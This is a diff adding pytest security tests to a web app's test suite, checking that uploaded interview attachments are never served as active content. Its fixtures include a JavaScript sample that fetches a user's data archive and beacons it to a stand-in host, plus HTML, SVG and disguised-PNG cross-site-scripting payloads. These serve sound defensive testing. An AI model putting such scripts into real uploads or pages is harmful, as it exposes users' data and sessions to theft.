@@ -14,7 +14,7 @@ import pytest
 from sqlalchemy import func, select
 
 from inquiry_hub.extensions import db
-from inquiry_hub.fieldwork.models import Code, Excerpt, Interview, Note
+from inquiry_hub.fieldwork.models import Code, Excerpt, Interview, InterviewFile, Note
 from tests.api.conftest import Api, make_token
 from tests.conftest import login
 from tests.security._hardening import english, make_field
@@ -214,3 +214,79 @@ def test_the_deliverable_upload_refuses_the_same_bomb_with_the_same_guard(field)
 
     with pytest.raises(files.Refused):
         files.sniff(_bomb())
+
+
+# --- stored files go back with their sniffed type, never the browser's claim -------------------
+
+PNG = (
+    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4"
+    b"\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
+)
+#: name → (bytes, the type the browser claims): active content the app's origin must never serve.
+ACTIVE = {
+    "evil.js": (
+        b"fetch('/me/data.zip').then(r => r.blob()).then(b => navigator.sendBeacon('//x', b))\n",
+        "text/javascript",
+    ),
+    "evil.html": (
+        b"<!doctype html><html><body><script>alert(document.domain)</script></body></html>",
+        "text/html",
+    ),
+    "evil.svg": (
+        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
+        "image/svg+xml",
+    ),
+    "photo.png": (b"<html><script>alert(1)</script></html>", "image/png"),
+}
+
+
+def _attach(client, field, name: str, data: bytes, claimed: str) -> str:
+    """Upload through the web form; the URL of the new file's download."""
+    login(client, field["student"])
+    base = f"/inquiries/{field['inquiry'].id}/fieldwork/interviews/{field['interview'].id}"
+    client.post(
+        base + "/files",
+        data={"attachment": (io.BytesIO(data), name, claimed)},
+        content_type="multipart/form-data",
+    )
+    row = db.session.scalars(select(InterviewFile).order_by(InterviewFile.id.desc())).first()
+    assert row is not None and row.filename == name
+    return f"{base}/files/{row.id}"
+
+
+@pytest.mark.parametrize("name", list(ACTIVE))
+def test_an_attachment_is_never_served_as_active_content(client, field, name):
+    data, claimed = ACTIVE[name]
+    response = client.get(_attach(client, field, name, data, claimed))
+    assert response.status_code == 200 and response.data == data
+    assert response.mimetype in ("application/octet-stream", "text/plain")
+    assert response.headers["Content-Disposition"].startswith("attachment")
+    assert response.headers["X-Content-Type-Options"] == "nosniff"
+
+
+def test_an_attachment_keeps_its_real_type_when_allowed(client, field):
+    response = client.get(_attach(client, field, "lieu.png", PNG, "application/x-evil"))
+    assert response.status_code == 200 and response.data == PNG
+    assert response.mimetype == "image/png"
+    assert response.headers["Content-Disposition"].startswith("attachment")
+    assert response.headers["X-Content-Type-Options"] == "nosniff"
+
+
+def test_the_stored_type_is_the_sniffed_one(client, field):
+    _attach(client, field, "evil.html", *ACTIVE["evil.html"])
+    row = db.session.scalars(select(InterviewFile).order_by(InterviewFile.id.desc())).first()
+    assert row.mimetype == "text/html"  # what it is; it is still never served as such
+
+
+@pytest.mark.parametrize(
+    ("data", "expected"),
+    [
+        (PNG, "image/png"),
+        (b"%PDF-1.4\n%%EOF\n", "application/pdf"),
+        (ACTIVE["evil.html"][0], "application/octet-stream"),
+    ],
+)
+def test_download_type_allows_a_short_list_only(data, expected):
+    from inquiry_hub.filecheck import download_type
+
+    assert download_type(data) == expected
